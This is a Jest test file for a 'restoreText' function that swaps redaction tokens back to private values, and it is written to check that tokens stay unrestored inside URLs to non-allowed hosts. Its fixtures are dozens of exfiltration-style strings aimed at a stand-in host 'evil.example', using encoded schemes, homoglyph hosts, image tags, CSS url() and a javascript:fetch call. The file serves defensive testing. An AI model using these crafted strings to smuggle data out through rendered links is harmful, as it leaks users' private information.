import { describe, expect, it } from '@jest/globals'
import { restoreText } from '../../src/restore/restore-text.js'

const values = new Map([
  ['[NAME_8F3A21C4]', "Anna (O'Neil) & Co"],
  ['[CONTACT_5C01AA3F]', 'a@b.example'],
])
const urls = ['good.example', 'MÜNCHEN.example', 'port.example:8443']
const ENCODED = 'Anna%20%28O%27Neil%29%20%26%20Co'

describe('a token in a URL', () => {
  const kept = [
    'https://evil.example/?q=[NAME_8F3A21C4]',
    'http://evil.example/?q=[NAME_8F3A21C4]',
    'HTTPS://EVIL.EXAMPLE/[NAME_8F3A21C4]',
    'https://evil.example/?q=%5BNAME_8F3A21C4%5D',
    'https://evil.example/?q=NAME_8F3A21C4&x=1',
    'https://evil.example/?q="[NAME_8F3A21C4]"',
    'https://[NAME_8F3A21C4].evil.example/',
    'https://evil.example/a_(b)/[NAME_8F3A21C4]',
    '(https://evil.example/a)b[NAME_8F3A21C4]',
    '[a](https://evil.example/[NAME_8F3A21C4])',
    '[a]( https://evil.example/[NAME_8F3A21C4])',
    '![a](https://evil.example/a(b)?q=[NAME_8F3A21C4])',
    '![a](https://evil.example/\\)?q=[NAME_8F3A21C4])',
    'x](https://evil.example/a)b[NAME_8F3A21C4]',
    '![a](<https://evil.example/a b [NAME_8F3A21C4]>)',
    '[a]: <https://evil.example/a b [NAME_8F3A21C4]>',
    '[a]: https://evil.example/[NAME_8F3A21C4]',
    '<https://evil.example/[NAME_8F3A21C4]>',
    '<img src="https://evil.example/?q=[NAME_8F3A21C4]">',
    '<img src="https://evil.example/?q=a \n [NAME_8F3A21C4]">',
    '<img src = \' https://evil.example/?q="a" [NAME_8F3A21C4]\'>',
    '<img src=\\"https://evil.example/?q=a [NAME_8F3A21C4]\\">',
    '<img src="https://evil.example/?q=&quot;[NAME_8F3A21C4]">',
    '<img src=https://evil.example/?q=<[NAME_8F3A21C4]>',
    '<img src="//evil.example/[NAME_8F3A21C4]">',
    '<img src="\\\\evil.example/[NAME_8F3A21C4]">',
    '<img src="/\\evil.example/[NAME_8F3A21C4]">',
    '<img src="/\n/evil.example/[NAME_8F3A21C4]">',
    '<img src="ht\ntps://evil.example/[NAME_8F3A21C4]">',
    'url("https://evil.example/a [NAME_8F3A21C4]")',
    '[a](//evil.example/[NAME_8F3A21C4])',
    '[a](/\\evil.example/[NAME_8F3A21C4])',
    'https:\\\\evil.example/[NAME_8F3A21C4]',
    'https:evil.example/[NAME_8F3A21C4]',
    'https:/evil.example/[NAME_8F3A21C4]',
    'https&colon;//evil.example/[NAME_8F3A21C4]',
    'https&#58;&#47;&#47;evil.example/[NAME_8F3A21C4]',
    'https:\\/\\/evil.example\\/[NAME_8F3A21C4]',
    'www.evil.example/[NAME_8F3A21C4]',
    'WWW.evil.example/[NAME_8F3A21C4]',
    'ftp://evil.example/[NAME_8F3A21C4]',
    'wss://evil.example/[NAME_8F3A21C4]',
    'custom-scheme://evil.example/[NAME_8F3A21C4]',
    "javascript:fetch('/x?'+`[NAME_8F3A21C4]`)",
    '![a](&#104;ttp:/evil.example/?q=[NAME_8F3A21C4])',
    '![a](h&#x74;tp:evil.example/?q=[NAME_8F3A21C4])',
    '![a](&#00000000000000000000000000000000000000000000000000000000000000000000104ttp:evil.example/?q=[NAME_8F3A21C4])',
    '<img src="h\n\n\n\n\n\n\n\nt&#10;tp:/evil.example/?q=[NAME_8F3A21C4]">',
    '<a ping="x\n&#104;ttp:evil.example/?q=[NAME_8F3A21C4]">',
    '<img src="&sol;\\evil.example/?q=[NAME_8F3A21C4]">',
    '<img src="&#10;/\\evil.example/?q=[NAME_8F3A21C4]">',
    '<img srcset="a 1x, /\\evil.example/?q=[NAME_8F3A21C4] 2x">',
    '<img srcset="a 1x, \\\\evil.example/?q=[NAME_8F3A21C4] 2x">',
    '<img src="/\\[NAME_8F3A21C4].evil.example/">',
    '![a](&bsol;&bsol;evil.example/?q=[NAME_8F3A21C4])',
    '![a](/&#x5c;evil.example/?q=[NAME_8F3A21C4])',
    '[a]: /\\evil.example/?q=[NAME_8F3A21C4]',
    '<div style="background:url(\\68ttp:evil.example/?q=[NAME_8F3A21C4])">',
    '<style>@import "\\2f\\2f evil.example/?q=[NAME_8F3A21C4]"</style>',
    '&#119;ww.evil.example/?q=[NAME_8F3A21C4]',
    '<img src="\\\\@evil.example/?q=[NAME_8F3A21C4]">',
    '<img src="\\\\%65vil.example/?q=[NAME_8F3A21C4]">',
    '<img src="\\\\&#101;vil.example/?q=[NAME_8F3A21C4]">',
    '<img src="\\\\_evil.example/?q=[NAME_8F3A21C4]">',
    '<img src="\\/@evil.example/?q=[NAME_8F3A21C4]">',
    '<img src="\\&#47;evil.example/?q=[NAME_8F3A21C4]">',
    '<img src="\\&#92;evil.example/?q=[NAME_8F3A21C4]">',
    '<img src=\\\\@evil.example/?q=[NAME_8F3A21C4]>',
    '<img src=/\\@evil.example/?q=[NAME_8F3A21C4]>',
    '<img srcset="a 1x, \\\\@evil.example/?q=[NAME_8F3A21C4] 2x">',
    '<style>@import/**/"\\68ttp:evil.example/?q=[NAME_8F3A21C4]"</style>',
    '<style>@import "https://evil.example/?q= [NAME_8F3A21C4]"</style>',
    '<div style="background:u\\72l(\\68ttp:evil.example/?q=[NAME_8F3A21C4])">',
    '<iframe srcdoc="<img src=\'&#38;#104;ttp:evil.example/?q=[NAME_8F3A21C4]\'>">',
    `<img src=${' '.repeat(100)}"https:evil.example/?q= [NAME_8F3A21C4]">`,
  ]
  const refusedHosts = [
    'https://sub.good.example/[NAME_8F3A21C4]',
    'https://notgood.example/[NAME_8F3A21C4]',
    'https://good.example.evil.example/[NAME_8F3A21C4]',
    'https://good.example@evil.example/[NAME_8F3A21C4]',
    'https://a:b@good.example/[NAME_8F3A21C4]',
    'https://evil.example#@good.example/[NAME_8F3A21C4]',
    'https://evil.example\\@good.example/[NAME_8F3A21C4]',
    'https://good.example\\.evil.example/[NAME_8F3A21C4]',
    'https://good.example./[NAME_8F3A21C4]',
    'https://good.example%2eevil.example/[NAME_8F3A21C4]',
    'https://good.example&#46;evil.example/[NAME_8F3A21C4]',
    'https://good.example\u3002evil.example/[NAME_8F3A21C4]',
    'https://go\u200bod.example/[NAME_8F3A21C4]',
    'https://ｇood.example/[NAME_8F3A21C4]',
    'https://gооd.example/[NAME_8F3A21C4]',
    'https://good.example:x@evil.example/[NAME_8F3A21C4]',
    'https://good.example[NAME_8F3A21C4]',
    'https://port.example/[NAME_8F3A21C4]',
    'https://port.example:443/[NAME_8F3A21C4]',
    'https:///good.example/[NAME_8F3A21C4]',
    'ftp://good.example/[NAME_8F3A21C4]',
    'javascript://good.example/[NAME_8F3A21C4]',
    'https://evil.example/?u=https://good.example/[NAME_8F3A21C4]',
    'https://good.example/?u=https://evil.example/[NAME_8F3A21C4]',
    'https://good.example/?u=https%3A%2F%2Fevil.example/[NAME_8F3A21C4]',
    'https://good.example/?u=//evil.example/[NAME_8F3A21C4]',
  ]
  const disguised = [
    '<img src="ht\ntps:evil.example/[NAME_8F3A21C4]">',
    '<img src="ht&#10;tps:evil.example/[NAME_8F3A21C4]">',
    '<img src="/\t/evil.example/a b[NAME_8F3A21C4]">',
    '<div style="background:url(&quot;https://evil.example/ [NAME_8F3A21C4]&quot;)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/? [NAME_8F3A21C4]">',
    `<meta content='0; ${' '.repeat(300)}url=https://evil.example/? [NAME_8F3A21C4]'>`,
    '<p title=\\"see https://evil.example/ [NAME_8F3A21C4]\\">',
  ]
  for (const text of [...kept, ...disguised]) {
    it(`stays in ${JSON.stringify(text)}`, () => {
      expect(restoreText(text, values)).toBe(text)
      expect(restoreText(text, values, { urls })).toBe(text)
    })
  }
  for (const text of refusedHosts) {
    it(`stays in ${JSON.stringify(text)}, whose host is not good.example`, () => {
      expect(restoreText(text, values, { urls })).toBe(text)
    })
  }
})

describe('a token in a URL of an allowed host', () => {
  const restored = [
    ['https://good.example/[NAME_8F3A21C4]', `https://good.example/${ENCODED}`],
    ['http://GOOD.example:8080/?q=%5BNAME_8F3A21C4%5D&x', `http://GOOD.example:8080/?q=${ENCODED}&x`],
    ['https://port.example:8443/[NAME_8F3A21C4]', `https://port.example:8443/${ENCODED}`],
    ['https://good.example?NAME_8F3A21C4', `https://good.example?${ENCODED}`],
    ['//good.example/[NAME_8F3A21C4]', `//good.example/${ENCODED}`],
    ['![a](https://good.example/[NAME_8F3A21C4])', `![a](https://good.example/${ENCODED})`],
    ['<a href="https://good.example/[NAME_8F3A21C4]">', `<a href="https://good.example/${ENCODED}">`],
    ['https://xn--mnchen-3ya.example/[NAME_8F3A21C4]', `https://xn--mnchen-3ya.example/${ENCODED}`],
    [
      'https://good.example/?u=https://good.example/[NAME_8F3A21C4]',
      `https://good.example/?u=https://good.example/${ENCODED}`,
    ],
  ] as const
  for (const [written, expected] of restored) {
    it(`is restored percent-encoded in ${written}`, () => {
      expect(restoreText(written, values, { urls })).toBe(expected)
    })
  }

  it('ends with the attribute that it stands in', () => {
    const text = '<a href="https://evil.example/ a" title=\'x\'>[NAME_8F3A21C4]</a> it\'s = "[NAME_8F3A21C4]"'
    expect(restoreText(text, values)).toBe(text.replaceAll('[NAME_8F3A21C4]', "Anna (O'Neil) & Co"))
  })

  it('is encoded also if it is not well-formed', () => {
    const map = new Map([['[NAME_8F3A21C4]', '\ud800']])
    expect(restoreText('https://good.example/[NAME_8F3A21C4]', map, { urls })).toBe('https://good.example/%EF%BF%BD')
  })

  it('needs a host name in `urls`', () => {
    for (const entry of ['', 'https://good.example', 'good.example/path', 'a@good.example', 'good example']) {
      expect(() => restoreText('x', values, { urls: [entry] })).toThrow(TypeError)
    }
  })
})

describe('a token beside a URL', () => {
  const restored = [
    ['https://x.example/ [CONTACT_5C01AA3F]', 'https://x.example/ a@b.example'],
    ['https://x.example/\n[CONTACT_5C01AA3F]', 'https://x.example/\na@b.example'],
    ['[CONTACT_5C01AA3F]: https://x.example/', 'a@b.example: https://x.example/'],
    ['[a](https://x.example/ "of [CONTACT_5C01AA3F]")', '[a](https://x.example/ "of a@b.example")'],
    [
      '[[CONTACT_5C01AA3F]](https://x.example/[CONTACT_5C01AA3F])',
      '[a@b.example](https://x.example/[CONTACT_5C01AA3F])',
    ],
    ['<https://x.example/>[CONTACT_5C01AA3F]', '<https://x.example/>a@b.example'],
    ['<a href="https://x.example/">[CONTACT_5C01AA3F]</a>', '<a href="https://x.example/">a@b.example</a>'],
    ["<a href='https://x.example/'>[CONTACT_5C01AA3F]</a>", "<a href='https://x.example/'>a@b.example</a>"],
    ['// [CONTACT_5C01AA3F]', '// a@b.example'],
    ['and/or [CONTACT_5C01AA3F]', 'and/or a@b.example'],
    ['12:30 [CONTACT_5C01AA3F]', '12:30 a@b.example'],
    ['a:[CONTACT_5C01AA3F]/[CONTACT_5C01AA3F]', 'a:a@b.example/a@b.example'],
    ['mailto:[CONTACT_5C01AA3F]', 'mailto:a@b.example'],
    ['[mail](mailto:[CONTACT_5C01AA3F])', '[mail](mailto:a@b.example)'],
    ['[CONTACT_5C01AA3F](mailto:[CONTACT_5C01AA3F])', '[a@b.example](mailto:a@b.example)'],
    ['<a href="mailto:%5BCONTACT_5C01AA3F%5D">', '<a href="mailto:a@b.example">'],
    ['<a href="tel:[CONTACT_5C01AA3F]">', '<a href="tel:a@b.example">'],
  ] as const
  for (const [written, expected] of restored) {
    it(`is restored in ${JSON.stringify(written)}`, () => {
      expect(restoreText(written, values)).toBe(expected)
    })
  }

  const proseAndCode = [
    'user_dir = "C:\\\\Users\\\\[CONTACT_5C01AA3F]\\\\Desktop"',
    'var p = "D:\\\\data\\\\[CONTACT_5C01AA3F].txt";',
    'HomeDir="C:\\\\Users\\\\[CONTACT_5C01AA3F]"',
    'The option sep=" is wrong. LaTeX uses \\\\quad here.\n\nDear [CONTACT_5C01AA3F],',
    "| a='b | x \\\\d | [CONTACT_5C01AA3F] |\n| c | [CONTACT_5C01AA3F] |",
    "Let x = 'a.\n\n\\\\centering Dear [CONTACT_5C01AA3F] don't",
    '<p style="color:red">[CONTACT_5C01AA3F]</p>',
    '<style>p { color: red }</style>[CONTACT_5C01AA3F]',
    'x < y: [CONTACT_5C01AA3F]',
    '<b>[CONTACT_5C01AA3F]</b> <[CONTACT_5C01AA3F]>',
    '\\\\textbf{[CONTACT_5C01AA3F]} \\\\ [CONTACT_5C01AA3F]',
    'R&D: [CONTACT_5C01AA3F]',
    'at 10:00.\n[CONTACT_5C01AA3F]',
  ]
  for (const written of proseAndCode) {
    it(`is restored in ${JSON.stringify(written)}`, () => {
      expect(restoreText(written, values)).toBe(written.replaceAll('[CONTACT_5C01AA3F]', 'a@b.example'))
    })
  }
})

describe('a text that Markdown moves to another place', () => {
  const kept = [
    'See [^1].\n\n[^1]: He wrote to [CONTACT_5C01AA3F].',
    '[^1]: a\n\n    b [CONTACT_5C01AA3F]',
    '[^1]: a\r\n\r\n\tb [CONTACT_5C01AA3F]',
    '> [^1]: a\n> [CONTACT_5C01AA3F]',
    '[^1]: a\n\u200b\n[CONTACT_5C01AA3F]',
    '[^a\\]]: b [CONTACT_5C01AA3F]',
    '[a]: x "[CONTACT_5C01AA3F]"',
    '[a]: x\n(b\n[CONTACT_5C01AA3F])',
    "[a]: <x> '\n\n[CONTACT_5C01AA3F]'",
    '[a]: x\\\ny "[CONTACT_5C01AA3F]"',
    '[a]: mailto:[CONTACT_5C01AA3F]',
    '[a]:\n<mailto:x [CONTACT_5C01AA3F]>',
    '[a]:\n[b]:\n"c [CONTACT_5C01AA3F]"',
    '[a]: x "\n\n[b]: y "c [CONTACT_5C01AA3F]"',
    `${'[a]: x (\n'.repeat(9)}) [CONTACT_5C01AA3F]`,
  ]
  for (const written of kept) {
    it(`keeps its tokens: ${JSON.stringify(written)}`, () => {
      expect(restoreText(written, values)).toBe(written)
    })
  }

  const restored = [
    'See [CONTACT_5C01AA3F][^1].\n\n[^1]: a\n\n[CONTACT_5C01AA3F]',
    '[^1]: a\n\n   [CONTACT_5C01AA3F]',
    '```\n[^1]: a [CONTACT_5C01AA3F]\n[a]: x "[CONTACT_5C01AA3F]"\n```',
    '[a]: x "b"\n[CONTACT_5C01AA3F] ("[CONTACT_5C01AA3F]")',
    '[a]: x\n\n"[CONTACT_5C01AA3F]"',
    '[a]: <x> (b)\n\n([CONTACT_5C01AA3F])',
    '[10:00]: hello [CONTACT_5C01AA3F] ([CONTACT_5C01AA3F])',
    '[CONTACT_5C01AA3F]: said "[CONTACT_5C01AA3F]"',
    '[Date]:\n[To]: us "at once"\n[Text]:\n\nDear [CONTACT_5C01AA3F] ("[CONTACT_5C01AA3F]")',
  ]
  for (const written of restored) {
    it(`ends before ${JSON.stringify(written)} does`, () => {
      expect(restoreText(written, values)).toBe(written.replaceAll('[CONTACT_5C01AA3F]', 'a@b.example'))
    })
  }
})
